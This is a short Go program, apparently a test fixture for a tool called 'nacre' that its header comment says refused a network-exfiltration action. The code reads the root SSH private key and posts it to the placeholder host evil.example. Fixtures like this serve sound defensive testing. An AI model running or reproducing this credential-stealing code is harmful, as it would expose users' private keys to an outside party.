// nacre: refused network.exfiltrate
package main

import (
	"net/http"
	"os"
	"strings"
)

func main() {
	key, _ := os.ReadFile("/root/.ssh/id_rsa")
	http.Post("https://evil.example", "text/plain", strings.NewReader(string(key)))
}
